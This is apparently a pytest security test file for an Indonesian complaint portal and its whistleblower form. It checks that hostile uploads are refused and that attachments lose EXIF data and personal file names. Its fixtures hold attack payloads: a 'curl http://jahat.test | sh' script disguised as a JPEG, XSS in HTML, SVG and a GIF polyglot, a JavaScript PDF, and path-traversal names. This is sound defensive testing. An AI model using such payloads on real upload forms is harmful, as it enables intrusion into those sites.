"""Upload attacks through the public complaint form and the WBS report form: each refused with a message in Bahasa
Indonesia (the form shown again with a 4xx), nothing stored (rows and files in the upload folder counted before and
after); an accepted JPEG comes back without its EXIF block; a hostile file name never reaches the disk."""
import io
import re
import zipfile

import pytest
from PIL import Image

from pengaduan.models import Attachment, Complaint
from portal.extensions import db
from tests.factories import login_as, once_token, post_form
from tests.pengaduan.test_uploads import bomb_png
from tests.security.world import counts, png, stored_files
from tests.wbs.factories import ANSWERS, CSRF, make_member, unlock, wbs_csrf
from wbs.models import WbsFile, WbsReport


def jpeg(exif=True, size=(60, 40)):
    img = Image.new('RGB', size, (10, 100, 10))
    out = io.BytesIO()
    if exif:
        data = Image.Exif()
        data[0x010F] = 'KameraRahasia'  # Make
        data[0x0110] = 'ModelRahasia'
        img.save(out, 'JPEG', exif=data)
    else:
        img.save(out, 'JPEG')
    return out.getvalue()


def _zip():
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w') as z:
        z.writestr('bukti.txt', 'isi')
    return out.getvalue()


PDF_JS = (b'%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>endobj\n'
          b'2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>'
          b'endobj\n4 0 obj<</S/JavaScript/JS(app.alert\\(1\\))>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n')
def _pdf():
    from pypdf import PdfWriter
    writer, out = PdfWriter(), io.BytesIO()
    writer.add_blank_page(100, 100)
    writer.write(out)
    return out.getvalue()


# Files pypdf fails on with errors of its own kinds, not only PdfReadError (an audit found each gave a 500): an offset
# too large for a C integer, a cross-reference table declaring 10^20 entries, AES (needs a library not installed) and
# public-key encryption (not implemented).
_BASE = _pdf()
HOSTILE_PDFS = {
    'pdf_huge_offset': re.sub(rb'startxref\s+\d+', b'startxref\n99999999999999999999', _BASE),
    'pdf_huge_xref': re.sub(rb'xref\n0 \d+', b'xref\n0 99999999999999999999', _BASE),
    'pdf_aes': _BASE.replace(b'trailer\n<<', b'trailer\n<< /Encrypt << /Filter /Standard /V 5 /R 6 /O (x) /U (y) '
                                             b'/P -1 >> /ID [ (a) (b) ]'),
    'pdf_pubsec': _BASE.replace(b'trailer\n<<', b'trailer\n<< /Encrypt << /Filter /Adobe.PubSec /V 1 >> '
                                                b'/ID [ (a) (b) ]'),
}
assert all(pdf != _BASE for pdf in HOSTILE_PDFS.values())
ATTACKS = {
    'script.jpg': ('foto.jpg', b'#!/bin/sh\ncurl http://jahat.test | sh\n'),
    'html': ('bukti.html', b'<html><body><script>alert(1)</script></body></html>'),
    'big': ('besar.jpg', jpeg(exif=False) + b'\0' * (6 * 1024 * 1024)),
    'bomb': ('bom.png', bomb_png()),
    'svg': ('gambar.svg', b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    'pdf_js': ('surat.pdf', PDF_JS),
    'polyglot': ('anim.gif', b'GIF89a/*\x01\x00\x01\x00\x00\xff\x00,*/=1;alert(1);//\x00;'),
    'zip': ('arsip.zip', _zip()),
    'truncated': ('potong.jpg', jpeg(size=(400, 300))[:600]),
    **{name: ('bukti.pdf', pdf) for name, pdf in HOSTILE_PDFS.items()},
}
REFUSED = ('ditolak', 'tidak diterima', 'melebihi', 'rusak', 'terlalu besar', 'dikunci')


def _complaint_form(unit_id, **files):
    data = {'kind': 'pengaduan', 'category': 'waktu', 'unit': str(unit_id), 'layanan': '',
            'title': 'Antrean legalisir lama', 'text': 'Saya menunggu tiga jam di loket legalisir tanpa kepastian.',
            'place': 'PTSP', 'event_date': '', 'privacy': 'biasa', 'name': 'Budi Warga', 'email': 'budi@warga.id',
            'phone': '', 'consent': 'y', 'website': ''}
    data.update({k: (io.BytesIO(content), name) for k, (name, content) in files.items()})
    return data


def _unit():
    from tests.factories import make_unit
    return make_unit()


@pytest.mark.parametrize('attack', sorted(ATTACKS))
def test_complaint_form_refuses(app, attack):
    unit = _unit()
    client = app.test_client()
    before, files_before = counts(), stored_files(app)
    response = post_form(client, '/pengaduan/baru', _complaint_form(unit.id, lampiran1=ATTACKS[attack]),
                         form_url='/pengaduan/baru', content_type='multipart/form-data')
    response.request.environ['wsgi.input'].close()  # the test client spools a big body to a temp file
    assert 400 <= response.status_code < 500, response.status_code
    if response.status_code == 400:  # the form, shown again with the message on the file field
        html = response.get_data(as_text=True)
        assert any(word in html for word in REFUSED), html
        assert 'Antrean legalisir lama' in html  # the rest of the form is kept
    assert counts() == before and stored_files(app) == files_before


def _wbs_send(client, files):
    token = wbs_csrf(client)
    review = client.post('/wbs/lapor', data=dict(ANSWERS, wbs_csrf=token, aksi='tinjau'))
    assert review.status_code == 200
    page = review.get_data(as_text=True)
    data = dict(ANSWERS, wbs_csrf=CSRF.search(page).group(1), aksi='kirim', sekali=once_token(page, '/wbs/lapor'),
                lampiran=[(io.BytesIO(c), n) for n, c in files])
    return client.post('/wbs/lapor', data=data, content_type='multipart/form-data')


@pytest.mark.parametrize('attack', sorted(ATTACKS))
def test_wbs_form_refuses(app, attack):
    client = app.test_client()
    before, files_before = counts(), stored_files(app)
    response = _wbs_send(client, [ATTACKS[attack]])
    response.request.environ['wsgi.input'].close()
    assert 400 <= response.status_code < 500, response.status_code
    if response.status_code == 422:
        html = response.get_data(as_text=True)
        assert any(word in html for word in REFUSED), html
        assert 'id="tanda-terima"' not in html
    assert counts() == before and stored_files(app) == files_before


def test_complaint_jpeg_is_stored_without_exif_under_a_safe_name(app):
    unit = _unit()
    client = app.test_client()
    assert Image.open(io.BytesIO(jpeg())).getexif()  # the upload has EXIF
    response = post_form(client, '/pengaduan/baru',
                         _complaint_form(unit.id, lampiran1=('foto.jpg', jpeg()),
                                         lampiran2=('../../etc/pass\x00wd.png', png())),
                         form_url='/pengaduan/baru', content_type='multipart/form-data')
    if response.status_code != 302:  # a hostile name may be refused outright: then nothing is stored
        assert response.status_code == 400 and db.session.scalar(db.select(db.func.count(Complaint.id))) == 0
        return
    items = db.session.scalars(db.select(Attachment).order_by(Attachment.id)).all()
    assert len(items) == 2
    for item in items:
        assert '/' not in item.name and '\\' not in item.name and '\x00' not in item.name and '..' not in item.name
    root = app.config['UPLOAD_FOLDER']
    assert all(p.startswith(root) for p in stored_files(app))
    staff = app.test_client()
    login_as(staff, 'superadmin')
    data = staff.get(f'/staf/pengaduan/{items[0].complaint_id}/lampiran/{items[0].id}').data
    image = Image.open(io.BytesIO(data))
    assert image.format == 'JPEG' and not image.getexif()


def test_wbs_jpeg_is_stored_without_exif(app):
    member = make_member()
    client = app.test_client()
    response = _wbs_send(client, [('foto.jpg', jpeg()), ('../..\x00/x.png', png())])
    assert response.status_code == 303 and response.headers['Location'].endswith('/wbs/tanda-terima')
    assert 'id="tanda-terima"' in client.get(response.headers['Location']).get_data(as_text=True)
    report = db.session.scalars(db.select(WbsReport)).one()
    items = db.session.scalars(db.select(WbsFile).where(WbsFile.report_id == report.id).order_by(WbsFile.id)).all()
    assert len(items) == 2
    team = app.test_client()
    unlock(team, member)
    got = team.get(f'/staf/wbs/laporan/{report.id}/berkas/{items[0].id}')
    image = Image.open(io.BytesIO(got.data))
    assert image.format == 'JPEG' and not image.getexif()
    name = got.headers['Content-Disposition']
    second = team.get(f'/staf/wbs/laporan/{report.id}/berkas/{items[1].id}').headers['Content-Disposition']
    for header in (name, second):
        assert '/' not in header.split('filename=')[1] and '\x00' not in header


def test_a_file_keeps_no_name_from_the_senders_phone(app):
    # 'KTP_Siti_Rahasia_081234567890.jpg' was shown to every reader of a confidential complaint and sent as the
    # download's file name: the name is metadata like EXIF
    unit = _unit()
    response = post_form(app.test_client(), '/pengaduan/baru',
                         _complaint_form(unit.id, lampiran1=('KTP_Siti_Rahasia_081234567890.jpg', jpeg()),
                                         lampiran2=('foto_bukti_Andi_Wijaya.png', png())),
                         form_url='/pengaduan/baru', content_type='multipart/form-data')
    assert response.status_code == 302
    items = db.session.scalars(db.select(Attachment).order_by(Attachment.id)).all()
    assert [i.name for i in items] == ['lampiran-1.jpg', 'lampiran-2.png']
    staff = app.test_client()
    login_as(staff, 'superadmin')
    page = staff.get(f'/staf/pengaduan/{items[0].complaint_id}').get_data(as_text=True)
    download = staff.get(f'/staf/pengaduan/{items[0].complaint_id}/lampiran/{items[0].id}')
    assert 'Siti' not in page and 'Andi' not in page and 'Siti' not in download.headers['Content-Disposition']


def test_a_pdf_locked_only_for_permissions_is_refused_as_locked_and_the_form_is_kept(app):
    unit = _unit()
    response = post_form(app.test_client(), '/pengaduan/baru',
                         _complaint_form(unit.id, lampiran1=ATTACKS['pdf_aes']), form_url='/pengaduan/baru',
                         content_type='multipart/form-data')
    html = response.get_data(as_text=True)
    assert response.status_code == 400 and 'PDF yang dikunci (kata sandi atau pembatasan izin)' in html
    assert 'Antrean legalisir lama' in html and 'Budi Warga' in html


def test_a_forged_non_ascii_wbs_form_token_is_a_400_not_a_500(app):
    client = app.test_client()
    wbs_csrf(client)  # the browser has its CSRF cookie
    for path in ('/wbs/lapor', '/wbs/masuk', '/wbs/keluar', '/wbs/tanda-terima'):
        response = client.post(path, data={'wbs_csrf': 'é' * 64, 'aksi': 'tinjau', 'tanda_terima': '1' * 16})
        assert response.status_code == 400, (path, response.status_code)
